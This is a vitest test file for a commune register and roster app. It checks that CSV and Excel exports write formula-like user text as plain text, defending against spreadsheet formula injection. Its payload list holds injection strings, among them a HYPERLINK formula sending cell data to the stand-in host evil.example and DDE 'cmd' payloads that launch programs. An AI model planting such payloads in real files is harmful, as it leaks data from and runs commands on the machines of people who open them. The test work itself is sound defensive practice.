import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import type { FileDownload, RegisterList, SaveResult } from '../../src-main/api/contract';
import { saveSamplePlan, SAMPLE_COMMUNE_CODE, SAMPLE_WEEK } from '../helpers/sample-plan';
import { testApp, valueOf } from '../helpers/app';
import { preview, type App } from './register-helpers';

// Issue 16: text a user typed (or a file brought in) that starts like a formula was written raw
// to CSV, where Excel and LibreOffice run it. Text stays text in every export.
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;

let app: App;
beforeEach(async () => {
  app ??= testApp();
  await app.rpc('demo.reset', { confirm: true });
});
afterAll(() => app.close());

const save = async (list: string, key: string | null, values: Record<string, unknown>) =>
  valueOf<SaveResult>(await app.rpc('register.save', { list, key, values }));

/** The demo with formula-like text in hamlet and member fields (a phone like +84 ... is ordinary data too). */
async function plantPayloads(): Promise<void> {
  const hamlets = valueOf<RegisterList>(await app.rpc('register.list', { list: 'hamlets' })).rows;
  const xuanCao = hamlets.filter((r) => String(r.record.code).startsWith(SAMPLE_COMMUNE_CODE));
  for (const [i, payload] of PAYLOADS.entries()) {
    const row = xuanCao[i]!;
    expect(await save('hamlets', row.key, { venue: payload, contact: payload })).toMatchObject({ saved: true });
  }
  expect(await save('hamlets', xuanCao[0]!.key, { name: '=HYPERLINK("http://evil.example","Thôn")' })).toMatchObject({ saved: true });
  const members = valueOf<RegisterList>(await app.rpc('register.list', { list: 'members' })).rows;
  for (const [i, payload] of PAYLOADS.entries()) expect(await save('members', members[i]!.key, { role: payload, phone: '+84 912 345 678' })).toMatchObject({ saved: true });
}

async function workbook(base64: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(base64, 'base64') as unknown as ArrayBuffer);
  return wb;
}

/** Every cell of a workbook whose text starts like a formula must be a plain text cell; the only formulas are our own sums. */
function expectTextOnly(wb: ExcelJS.Workbook): string[] {
  const texts: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) => row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Merge) return; // the merge's first cell holds (and is checked for) the value
      if (cell.type === ExcelJS.ValueType.Formula) {
        expect(cell.formula).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
        return;
      }
      if (typeof cell.value === 'string' && FORMULA_START.test(cell.value)) {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        texts.push(cell.value);
      }
    }));
  }
  return texts;
}

describe('exports write formula-like text as text', () => {
  it('register CSV: every such cell is prefixed so the spreadsheet shows it as text, and importing the file back changes nothing', async () => {
    await plantPayloads();
    for (const list of ['hamlets', 'members'] as const) {
      const file = valueOf<FileDownload>(await app.rpc('export.list', { list, format: 'csv', language: 'vi' }));
      const text = Buffer.from(file.base64, 'base64').toString('utf8').replace(/^\uFEFF/, '');
      const cells = Papa.parse<string[]>(text, { skipEmptyLines: true }).data.flat();
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
      expect(cells).toContain(`'${PAYLOADS[0]}`);
      expect(cells).toContain(`'${PAYLOADS[3]}`);
      const p = await preview(app, list, file.fileName, file.base64);
      expect(p.rejects).toEqual([]);
      expect(p.counts).toMatchObject({ adds: 0, updates: 0 });
    }
  });

  it('register Excel: the same text is a text cell, never a formula', async () => {
    await plantPayloads();
    const file = valueOf<FileDownload>(await app.rpc('export.list', { list: 'hamlets', format: 'xlsx', language: 'en' }));
    const texts = expectTextOnly(await workbook(file.base64));
    // Register text is trimmed on save, so the tab and carriage return went at once.
    for (const payload of PAYLOADS) expect(texts).toContain(payload.trim());
  });

  it('roster Excel: venues, names and roles stay text; the totals are the only formulas', async () => {
    await plantPayloads();
    const planId = saveSamplePlan(app.ctx.db);
    const communeId = (app.ctx.db.prepare('SELECT id FROM communes WHERE code = ?').get(SAMPLE_COMMUNE_CODE) as { id: number }).id;
    const file = valueOf<FileDownload>(await app.rpc('roster.export', {
      planId, week: SAMPLE_WEEK, scope: { kind: 'commune', communeId }, format: 'xlsx', orientation: 'landscape',
    }));
    const texts = expectTextOnly(await workbook(file.base64));
    expect(texts.length).toBeGreaterThan(0);
  });

  it('the unmet-backlog table export (export.table) writes text cells', async () => {
    const file = valueOf<FileDownload>(await app.rpc('export.table', {
      fileName: 'thon-con-thieu', title: 'Thôn còn thiếu',
      columns: [{ header: 'Thôn', numeric: false }, { header: 'Còn thiếu', numeric: true }],
      rows: PAYLOADS.map((p, i) => [p, -i]),
    }));
    const wb = await workbook(file.base64);
    // The XML reader gives a carriage return back as a line feed: that one no longer looks like a formula.
    expect(expectTextOnly(wb).sort()).toEqual(PAYLOADS.filter((p) => !p.startsWith('\r')).sort());
    // Negative numbers stay numbers.
    expect(wb.worksheets[0]!.getRow(4).getCell(2).value).toBe(-1);
  });
});
